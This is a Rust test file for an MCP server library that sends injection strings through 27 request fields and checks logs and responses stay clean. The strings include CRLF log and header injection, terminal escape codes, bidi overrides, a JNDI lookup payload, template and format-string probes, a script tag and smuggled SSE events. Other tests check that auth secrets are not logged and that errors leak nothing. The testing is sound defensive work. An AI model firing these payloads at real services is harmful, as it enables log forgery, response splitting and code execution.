//! C22: what clients write into every field reaches neither the log nor the wire as more than text.

use std::{
    fmt::{self, Write},
    sync::{Arc, Mutex},
};

use serde_json::{Map, Value, json};
use tollgate::{Prompt, Resource, Tool, prelude::Cx};
use tollgate_tests::{Answer, Call};
use tracing::{
    Dispatch, Event, Metadata, Subscriber,
    field::{Field, Visit},
    span,
    subscriber::DefaultGuard,
};

use super::{
    bench::{Bench, Expect},
    fixture::{Runs, headers_of, server, take_with},
};

/// Every event of this thread, one text each.
#[derive(Clone, Default)]
struct Log(Arc<Mutex<Vec<String>>>);

struct Line(String);

impl Visit for Line {
    fn record_debug(&mut self, field: &Field, value: &dyn fmt::Debug) {
        let _ = write!(self.0, "{}={value:?} ", field.name());
    }

    fn record_str(&mut self, field: &Field, value: &str) {
        let _ = write!(self.0, "{}={value} ", field.name());
    }
}

impl Subscriber for Log {
    fn enabled(&self, metadata: &Metadata<'_>) -> bool {
        metadata.target().starts_with("tollgate")
    }

    fn new_span(&self, _: &span::Attributes<'_>) -> span::Id {
        span::Id::from_u64(1)
    }

    fn record(&self, _: &span::Id, values: &span::Record<'_>) {
        let mut line = Line(String::new());
        values.record(&mut line);
        self.0.lock().unwrap().push(line.0);
    }

    fn record_follows_from(&self, _: &span::Id, _: &span::Id) {}

    fn event(&self, event: &Event<'_>) {
        let mut line = Line(String::new());
        event.record(&mut line);
        self.0.lock().unwrap().push(line.0);
    }

    fn enter(&self, _: &span::Id) {}

    fn exit(&self, _: &span::Id) {}
}

impl Log {
    /// What was written since the last time.
    fn take(&self) -> Vec<String> {
        std::mem::take(&mut self.0.lock().unwrap())
    }
}

/// Listens on this thread for as long as the pair lives.
///
/// While there is one listener only, `tracing` asks the thread that comes first whether anybody wants an event, and
/// that may be the thread of another test. So there are two.
fn listen() -> (Log, (Dispatch, DefaultGuard)) {
    let log = Log::default();
    let second = Dispatch::new(Log::default());
    let guard = tracing::subscriber::set_default(log.clone());
    (log, (second, guard))
}

/// Texts that break a line, drive a terminal, turn the reading order round, or mean something to a template.
const TEXTS: [&str; 14] = [
    "a\r\nlevel=error msg=owned",
    "a\nHTTP/1.1 200 OK\r\nX-Evil: 1\r\n\r\n",
    "\u{1b}[2J\u{1b}]0;owned\u{7}",
    "\u{9b}31mred",
    "a\u{0}b",
    "a\u{85}b\u{2028}c\u{2029}d",
    "\u{202e}txt.exe",
    "\u{2066}a\u{2069}",
    "\u{200b}\u{feff}\u{e0041}",
    "\"}\n{\"level\":\"error\"",
    "${jndi:ldap://canary.example/x}",
    "%s%n%x{{7*7}}",
    "<script>alert(1)</script>",
    "data: x\n\ndata: {\"jsonrpc\":\"2.0\",\"id\":1,\"result\":{}}\n\n",
];

/// A call with that text in one field.
type Place = (&'static str, fn(&str) -> Call);

const PLACES: [Place; 27] = [
    ("the tool", |it| named(Call::tool("x", &json!({})), "name", it)),
    ("the prompt", |it| named(Call::modern("prompts/get", json!({"name": "x"})), "name", it)),
    ("the URI", |it| named(Call::modern("resources/read", json!({"uri": "x"})), "uri", it)),
    ("the method", |it| {
        let call = Call::modern("x", json!({})).edit(|body| body["method"] = json!(it));
        headers_of(call)
    }),
    ("the id", |it| take_with(&json!({"v": 1})).edit(|body| body["id"] = json!(it))),
    ("an argument", |it| take_with(&json!({"v": it}))),
    ("the name of an argument", |it| take_with(&json!({it: 1}))),
    ("an argument of another type", |it| Call::tool("hold", &json!({"table": [it]}))),
    ("an argument too many", |it| Call::tool("hold", &json!({"table": "a", it: 1}))),
    ("a mirrored argument", |it| take_with(&json!({"region": it})).replace("Mcp-Param-Region", "other")),
    ("another method in the body", |it| take_with(&json!({})).edit(|body| body["method"] = json!(it))),
    ("another name in the body", |it| take_with(&json!({})).edit(|body| body["params"]["name"] = json!(it))),
    ("the version", |it| {
        take_with(&json!({})).edit(|body| {
            body["params"]["_meta"]["io.modelcontextprotocol/protocolVersion"] = json!(it);
        })
    }),
    ("the client's name", |it| {
        take_with(&json!({})).edit(|body| {
            body["params"]["_meta"]["io.modelcontextprotocol/clientInfo"] =
                json!({"name": it, "version": it});
        })
    }),
    ("a capability", |it| {
        take_with(&json!({})).edit(|body| {
            body["params"]["_meta"]["io.modelcontextprotocol/clientCapabilities"] = json!({it: {}});
        })
    }),
    ("the log level", |it| {
        take_with(&json!({})).edit(|body| {
            body["params"]["_meta"]["io.modelcontextprotocol/logLevel"] = json!(it);
        })
    }),
    ("the progress token", |it| {
        take_with(&json!({})).edit(|body| body["params"]["_meta"]["progressToken"] = json!(it))
    }),
    ("a key of `_meta`", |it| take_with(&json!({})).edit(|body| body["params"]["_meta"][it] = json!(it))),
    ("a key twice", |it| {
        let key = json!(it).to_string();
        let call = take_with(&json!({"v": "here"}));
        let body = String::from_utf8(call.body.clone()).unwrap();
        call.body(body.replacen("\"here\"", &format!("{{{key}:1,{key}:2}}"), 1))
    }),
    ("a private key", |it| {
        let key = json!(format!("$serde_json::private::{it}"));
        take_with(&json!({"v": {key.as_str().unwrap(): 1}}))
    }),
    ("the cursor", |it| Call::modern("tools/list", json!({"cursor": it}))),
    ("the state", |it| {
        Call::tool("hold", &json!({"table": "a"})).edit(|body| body["params"]["requestState"] = json!(it))
    }),
    ("a session", |it| {
        let session: String = it.chars().filter(|it| !it.is_control()).collect();
        Call::post(r#"{"jsonrpc":"2.0","id":1,"method":"ping"}"#).header(format!("Mcp-Session-Id: {session}"))
    }),
    ("an answer of a legacy client", |it| {
        Call::post(&json!({"jsonrpc": "2.0", "id": it, "error": {"code": 1, "message": it}}).to_string())
    }),
    ("the name of a completion", |it| {
        let reference = json!({"type": "ref/prompt", "name": it});
        Call::modern("completion/complete", json!({"ref": reference, "argument": {"name": it, "value": it}}))
    }),
    ("the name of a legacy client", |it| {
        let info = json!({"name": it, "version": it});
        let params = json!({"protocolVersion": it, "capabilities": {it: {}}, "clientInfo": info});
        Call::post(&json!({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": params}).to_string())
    }),
    ("the name of a notification", |it| Call::post(&json!({"jsonrpc": "2.0", "method": it}).to_string())),
];

fn named(call: Call, member: &str, name: &str) -> Call {
    headers_of(call.edit(|it| it["params"][member] = json!(name)))
}

/// What a text must not hold where a person or a terminal reads it.
fn acts(text: &str) -> Option<char> {
    let acts = |it: &char| {
        it.is_control()
            || matches!(it, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}' | '\u{e0000}'..='\u{e007f}')
    };
    text.chars().find(acts)
}

// V56, V57.
#[tokio::test]
async fn no_field_writes_a_line_of_its_own() {
    let (log, _listening) = listen();
    let mut bench = Bench::new().await;
    let mut lines = 0;

    for (place, call) in PLACES {
        for text in TEXTS {
            let name = format!("{text:?} as {place}");
            let answer = bench.any(&name, &call(text)).await;
            bench.hold(&name, answer.status != 0 && answer.status < 500, "it was not answered");
            let is_clean = answer.body.iter().all(|it| *it >= b' ' && *it != 0x7f);
            bench.hold(&name, is_clean, "a control character travels bare");
            bench.hold(&name, answer.header("x-evil").is_none(), "a header came of it");
            for line in log.take() {
                lines += 1;
                let fault = acts(&line).map(|it| format!("{it:?} stands in the log: {line:?}"));
                bench.hold(&name, fault.is_none(), &fault.unwrap_or_default());
            }
        }
    }

    assert!(lines > 100, "only {lines} lines were logged: this test looks at nothing");
    bench.finish(378);
}

const CANARY: &str = "c4n4ry-7f3a9e";

// V41, V56.
#[tokio::test]
async fn what_is_secret_is_never_logged() {
    let (log, _listening) = listen();
    let mut bench = Bench::new().await;
    let secret = |call: Call| {
        call.header(format!("Authorization: Bearer {CANARY}"))
            .header(format!("Cookie: {CANARY}"))
            .header(format!("X-Api-Key: {CANARY}"))
    };
    let calls = [
        ("good", secret(take_with(&json!({"v": CANARY})))),
        ("arguments that do not fit", secret(Call::tool("hold", &json!({"table": [CANARY]})))),
        ("a broken body", secret(take_with(&json!({"v": CANARY}))).body(format!("{{\"{CANARY}\":"))),
        ("another host", secret(take_with(&json!({"v": CANARY}))).replace("Host", "evil.example")),
        ("a failure", secret(Call::tool("broken", &json!({})))),
        ("a panic", secret(Call::tool("panicking", &json!({})))),
        (
            "forged state",
            secret(Call::tool("hold", &json!({"table": CANARY})))
                .edit(|it| it["params"]["requestState"] = json!(CANARY)),
        ),
        (
            "a session",
            Call::post(r#"{"jsonrpc":"2.0","id":1,"method":"ping"}"#)
                .header(format!("Mcp-Session-Id: {CANARY}")),
        ),
        ("a cursor", Call::modern("tools/list", json!({"cursor": CANARY}))),
    ];

    let mut lines = 0;
    for (name, call) in calls {
        bench.any(name, &call).await;
        for line in log.take() {
            lines += 1;
            bench.hold(name, !line.contains(CANARY), &format!("it stands in the log: {line}"));
        }
    }

    assert!(lines > 0, "nothing was logged: this test looks at nothing");
    bench.finish(9);
}

// V57.
#[tokio::test]
async fn what_went_wrong_inside_stays_inside() {
    let (server, runs) = server();
    let catalog = server.catalog();
    let eager = |cx: Cx<Runs>, _: Map<String, Value>| {
        cx.state().one();
        assert!(cx.is_cancelled(), "canary before the first await");
        std::future::ready(Ok(String::new()))
    };
    catalog.add_tool(Tool::new("eager", "Panics at once.", json!({"type": "object"}), eager)).unwrap();
    catalog.add_prompt(Prompt::new("eager", "Panics at once.", eager)).unwrap();
    catalog.add_resource(Resource::new("test://eager", "eager", eager)).unwrap();
    let mut bench = Bench::of((server, runs)).await;
    let tells = |answer: &Answer| {
        let body = String::from_utf8_lossy(&answer.body).to_lowercase();
        ["canary", "select", "/etc", "/home", ".rs", "panic", "backtrace", "http://"]
            .iter()
            .any(|it| body.contains(it))
    };
    let panics = [
        ("a tool, later", Call::tool("panicking", &json!({}))),
        ("a tool, at once", Call::tool("eager", &json!({}))),
        ("a prompt, at once", Call::modern("prompts/get", json!({"name": "eager"}))),
        ("a resource, at once", Call::modern("resources/read", json!({"uri": "test://eager"}))),
    ];

    let answer = bench.call("an error", &Call::tool("broken", &json!({})), Expect::good(1)).await;
    bench.hold("an error", answer.result()["isError"] == true && !tells(&answer), "it tells what is inside");
    for (name, call) in panics {
        let answer = bench.call(name, &call, Expect::refused(200, -32603).runs(1)).await;
        bench.hold(name, answer.json()["error"]["message"] == "Internal error", "it has a text of its own");
        bench.hold(name, !tells(&answer), "it tells what is inside");
    }

    bench.finish(5);
}
